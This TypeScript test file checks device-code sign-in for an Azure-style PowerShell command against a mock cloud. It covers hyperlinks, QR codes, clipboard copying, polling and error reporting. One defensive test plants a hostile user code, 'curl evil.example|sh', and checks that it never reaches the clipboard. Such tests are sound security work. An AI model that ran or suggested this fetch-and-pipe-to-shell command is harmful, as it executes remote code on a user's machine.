import assert from 'node:assert/strict';
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { approveDeviceCode } from '../local-cloud/index.ts';
import {
  streamText,
  type CallError,
  type CallOptions,
  type CallResult,
  type WireMessage,
} from '../support/engine-process.ts';
import { alex, contoso, wireBench } from '../support/wire-bench.ts';

describe('the device code, over the wire', () => {
  const bench = wireBench();
  const link = '\u001b]8;;';
  const terminal: CallOptions = {
    interactive: true,
    consoleWidth: 80,
    // The prompt for the subscription.
    onPrompt: () => Promise.resolve(''),
    environment: { TERM: 'xterm-256color', TERM_PROGRAM: 'vscode' },
  };
  const connect = (options: CallOptions): Promise<CallResult> =>
    bench.engine.call(
      'Connect-AzAccount',
      { Environment: 'LocalCloud', UseDeviceAuthentication: true, Tenant: contoso, Force: true },
      options,
    );
  /** Calls `act` with the code when the code is shown. */
  const whenShown = (act: (code: string) => unknown): Pick<CallOptions, 'onMessage'> => ({
    onMessage: ({ method, params }) => {
      const code =
        method === 'host/write' ? /enter the code (\S+)/.exec(String(params?.message))?.[1] : undefined;
      if (code !== undefined) act(code);
    },
  });
  const polls = (): typeof bench.cloud.requests =>
    bench.cloud.requests.filter(({ body }) => body.includes('device_code='));

  it('is shown with an instruction, a hyperlink and a QR code', async () => {
    const { messages } = await connect({ ...terminal, ...bench.personWithCode() });
    const address = `${bench.cloud.loginUrl}/devicelogin`;
    assert.ok(streamText(messages, 'host').includes(`open the page ${address} and enter the code `));
    const drawn = streamText(messages, 'console');
    assert.ok(drawn.includes(`${link}${address}\u001b\\${address}${link}\u001b\\`));
    assert.match(drawn, /\u001b\[38;5;231;48;5;16m█+\u001b\[0m\n/);
    assert.ok(!streamText(messages, 'host').includes('\u001b'), 'what may be redirected is plain');
  });

  it('is shown without a QR code if DisplayDeviceCodeQR is off', async () => {
    await bench.engine.call('Update-AzConfig', { DisplayDeviceCodeQR: false, Scope: 'Process' });
    const { messages } = await connect({ ...terminal, ...bench.personWithCode() });
    assert.ok(streamText(messages, 'console').includes(link));
    assert.ok(!streamText(messages, 'console').includes('█'));
  });

  /** Starts an engine whose PATH has this script as xclip, and turns CopyDeviceCode on. */
  const withClipboard = async (script: string): Promise<void> => {
    const folder = join(bench.home, 'bin');
    await mkdir(folder);
    await writeFile(join(folder, 'xclip'), `#!/bin/sh\n${script}\n`);
    await chmod(join(folder, 'xclip'), 0o755);
    const PATH = `${folder}:${process.env.PATH ?? ''}`;
    bench.engine = await bench.startEngine(undefined, bench.home, { variables: { PATH } });
    await bench.engine.call('Update-AzConfig', { CopyDeviceCode: true });
  };
  const withDisplay = { ...terminal, environment: { ...terminal.environment, DISPLAY: ':7' } };
  const codeIn = (messages: CallResult['messages']): string =>
    /enter the code (\S+)/.exec(streamText(messages, 'host'))?.[1] ?? '';

  it('is copied to the clipboard if CopyDeviceCode is on, and a message says so', async () => {
    const copied = join(bench.home, 'copied');
    await withClipboard(`echo "$DISPLAY $*" > ${copied}; cat >> ${copied}`);
    let code = '';
    const shown = whenShown((text) => (code = text));
    const { messages } = await connect({
      ...withDisplay,
      onMessage: (message) => {
        shown.onMessage?.(message);
        if (/on the clipboard/.test(String(message.params?.message)))
          void approveDeviceCode(bench.cloud, code, alex);
      },
    });
    assert.match(streamText(messages, 'host'), /^The code is on the clipboard\.$/m);
    assert.equal(await readFile(copied, 'utf8'), `:7 -selection clipboard\n${codeIn(messages)}`);
  });

  it('is shown without a message about the clipboard if the clipboard program fails or never ends', async () => {
    await withClipboard('if [ -e "$0.ran" ]; then exec sleep 20; fi; : > "$0.ran"; exit 1');
    const first = await connect({ ...withDisplay, ...bench.personWithCode() });
    const second = await connect({ ...withDisplay, ...bench.personWithCode() });
    for (const { messages, outputs } of [first, second]) {
      assert.equal(outputs.length, 1);
      assert.doesNotMatch(streamText(messages, 'host') + streamText(messages, 'warning'), /clipboard/);
    }
  });

  it('is copied through the terminal in an SSH session', async () => {
    await bench.engine.call('Update-AzConfig', { CopyDeviceCode: true });
    const environment = { ...withDisplay.environment, SSH_TTY: '/dev/pts/0' };
    const { messages } = await connect({ ...withDisplay, environment, ...bench.personWithCode() });
    const [, sent = ''] = /\u001b\]52;c;([^\u0007]*)\u0007/.exec(streamText(messages, 'console')) ?? [];
    assert.equal(Buffer.from(sent, 'base64').toString(), codeIn(messages));
    assert.match(streamText(messages, 'console'), /The code was sent to the clipboard of your terminal\.$/m);
  });

  it('is not copied if it is not a code: a service could put a command on the clipboard', async () => {
    await bench.engine.call('Update-AzConfig', { CopyDeviceCode: true });
    bench.cloud.planted.set(`login POST /${contoso}/oauth2/v2.0/devicecode`, {
      status: 200,
      body: JSON.stringify({
        ...{ device_code: 'unknown', user_code: 'curl evil.example|sh\n', expires_in: 900, interval: 1 },
        ...{ verification_uri: 'https://evil.example', message: 'Enter the code.' },
      }),
    });
    const environment = { ...withDisplay.environment, SSH_TTY: '/dev/pts/0' };
    const shown: string[] = [];
    const onMessage = ({ params }: WireMessage): number => shown.push(String(params?.message));
    await assert.rejects(connect({ ...withDisplay, environment, onMessage }));
    assert.ok(shown.includes('Enter the code.'), shown.join('\n'));
    assert.doesNotMatch(shown.join('\n'), /\u001b\]52|clipboard/);
  });

  it('is not copied if CopyDeviceCode is off or output is redirected', async () => {
    const copied = join(bench.home, 'copied');
    await withClipboard(`cat > ${copied}`);
    await connect({ ...withDisplay, consoleWidth: 0, ...bench.personWithCode() });
    await bench.engine.call('Update-AzConfig', { CopyDeviceCode: false });
    const { messages } = await connect({ ...withDisplay, ...bench.personWithCode() });
    assert.doesNotMatch(
      streamText(messages, 'host') + streamText(messages, 'console'),
      /clipboard|\u001b\]52/,
    );
    await assert.rejects(readFile(copied), { code: 'ENOENT' });
  });

  it('is shown without a QR code or hyperlink if nobody can be prompted', async () => {
    const { messages } = await connect({ ...terminal, interactive: false, ...bench.personWithCode() });
    assert.equal(streamText(messages, 'console'), '');
    assert.match(streamText(messages, 'warning'), /^\P{Cc}*enter the code/u);
  });

  it('is shown with the remaining time on one line of a narrow terminal', async () => {
    let code = '';
    const shown = whenShown((text) => (code = text));
    const { messages } = await connect({
      onMessage: (message) => {
        shown.onMessage?.(message);
        // The person waits for the progress bar, then enters the code.
        if (message.method !== 'host/progress' || code === '') return;
        void approveDeviceCode(bench.cloud, code, alex);
        code = '';
      },
    });
    const bars = messages
      .filter(({ method }) => method === 'host/progress')
      .map(({ params }) => params ?? {});
    const left = bars.map(({ secondsRemaining }) => Number(secondsRemaining));
    assert.ok(left.some((seconds) => seconds > 800 && seconds < 900));
    assert.ok(bars.some(({ status }) => /^Enter \w+; Ctrl\+C stops waiting\.$/.test(String(status))));
    for (const { activity, status } of bars) assert.ok(`${String(activity)}: ${String(status)}`.length < 80);
  });

  it('makes polling slower when the service asks for it, and the sign-in still succeeds', async () => {
    bench.cloud.faults.pollsToSlowDown = 1;
    const { outputs } = await connect(bench.personWithCode());
    assert.equal(outputs.length, 1);
    const [first = 0, second = 0] = polls().map(({ at }) => at);
    assert.ok(second - first >= 5900, 'one second becomes six');
  });

  it('that expired is reported with the next step', async () => {
    const attempt = connect(whenShown(() => (bench.cloud.faults.clockSkewSeconds = 1000)));
    await assert.rejects(attempt, (error: CallError) => {
      assert.equal(error.data.id, 'Authentication.CodeExpired');
      return /within 15 minutes/.test(String(error.data.action));
    });
  });

  it('that the person declined is reported as declined', async () => {
    const decliner = bench.personWithCode({ ...alex, decline: true });
    await assert.rejects(connect(decliner), (error: CallError) => error.data.id === 'Authentication.Denied');
  });

  it('that a policy forbids is reported if it was requested explicitly', async () => {
    const tenant = bench.cloud.data.tenants.find(({ id }) => id === contoso);
    assert.ok(tenant);
    tenant.blocksDeviceCode = true;
    await assert.rejects(connect(bench.personWithCode()), (error: CallError) => {
      assert.equal(error.data.id, 'Blocked.DeviceCode');
      return error.message.includes('AADSTS53003');
    });
  });

  it('is not shown if the authority refuses to issue one, and the refusal is explained', async () => {
    bench.cloud.data.apps.splice(0);
    const messages: string[] = [];
    const attempt = connect({ onMessage: ({ params }) => messages.push(JSON.stringify(params)) });
    await assert.rejects(attempt, (error: CallError) => /AADSTS700016/.test(error.message));
    assert.ok(!messages.some((message) => message.includes('undefined')));
  });
});
